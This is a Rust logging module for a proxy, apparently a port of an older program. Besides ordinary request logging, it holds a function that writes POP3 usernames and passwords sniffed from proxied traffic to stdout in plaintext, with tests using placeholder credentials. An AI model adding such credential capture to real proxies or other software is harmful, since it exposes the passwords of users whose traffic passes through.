//! Connection and credential log lines.
//!
//! Line *format* is intentionally out of scope as a hard contract (any
//! tab-separated, timestamp-prefixed rendering satisfies it); what's
//! fixed is the fields each line must carry, taken from the original
//! `log_request`/`log_credentials` pair. Sinks are pluggable through
//! [`LogSink`] so tests can capture lines instead of printing them.

use std::io::Write;

pub trait LogSink {
    fn write_line(&mut self, line: &str);
}

/// Default sink: one line to stdout, matching the teacher binaries'
/// habit of writing operational output straight to a stream rather than
/// through a logging framework.
pub struct StdoutSink;

impl LogSink for StdoutSink {
    fn write_line(&mut self, line: &str) {
        let mut out = std::io::stdout();
        let _ = writeln!(out, "{line}");
    }
}

/// Captures lines in memory; used by tests.
#[derive(Default)]
pub struct CapturingSink {
    pub lines: Vec<String>,
}

impl LogSink for CapturingSink {
    fn write_line(&mut self, line: &str) {
        self.lines.push(line.to_string());
    }
}

fn local_date() -> String {
    let mut buf = [0u8; 32];
    unsafe {
        let t = libc::time(std::ptr::null_mut());
        let mut tm: libc::tm = std::mem::zeroed();
        libc::localtime_r(&t, &mut tm);
        let fmt = b"%Y-%m-%dT%H:%M:%S\0";
        let n = libc::strftime(
            buf.as_mut_ptr() as *mut libc::c_char,
            buf.len(),
            fmt.as_ptr() as *const libc::c_char,
            &tm,
        );
        String::from_utf8_lossy(&buf[..n]).into_owned()
    }
}

/// One line per completed (or aborted) proxy request: date, client
/// identity, record tag `A`, client address, destination, status code.
pub fn log_request(sink: &mut dyn LogSink, uname: Option<&str>, client_addr: &str, dest: &str, status: u8) {
    let uname = uname.unwrap_or("<anonymous>");
    sink.write_line(&format!(
        "{}\t{}\tA\t{}\t{}\t{:#04x}",
        local_date(),
        uname,
        client_addr,
        dest,
        status
    ));
}

/// One line per POP3 credential pair sniffed off the copy path: date,
/// proxy username, record tag `P`, protocol tag, destination, sniffed
/// user, sniffed password.
pub fn log_credentials(sink: &mut dyn LogSink, uname: Option<&str>, dest: &str, pop3_user: &str, pop3_pass: &str) {
    let uname = uname.unwrap_or("<anonymous>");
    sink.write_line(&format!(
        "{}\t{}\tP\tPOP3\t{}\t{}\t{}",
        local_date(),
        uname,
        dest,
        pop3_user,
        pop3_pass
    ));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn log_request_line_has_expected_fields() {
        let mut sink = CapturingSink::default();
        log_request(&mut sink, Some("alice"), "10.0.0.1:5555", "example.com:80", 0x00);
        assert_eq!(sink.lines.len(), 1);
        let fields: Vec<&str> = sink.lines[0].split('\t').collect();
        assert_eq!(fields.len(), 6);
        assert_eq!(fields[1], "alice");
        assert_eq!(fields[2], "A");
    }

    #[test]
    fn log_request_defaults_anonymous() {
        let mut sink = CapturingSink::default();
        log_request(&mut sink, None, "10.0.0.1:5555", "example.com:80", 0x00);
        assert!(sink.lines[0].contains("<anonymous>"));
    }

    #[test]
    fn log_credentials_line_has_expected_fields() {
        let mut sink = CapturingSink::default();
        log_credentials(&mut sink, Some("alice"), "mail.example.com:110", "bob", "s3cret");
        let fields: Vec<&str> = sink.lines[0].split('\t').collect();
        assert_eq!(fields[2], "P");
        assert_eq!(fields[3], "POP3");
        assert_eq!(fields[5], "bob");
        assert_eq!(fields[6], "s3cret");
    }
}
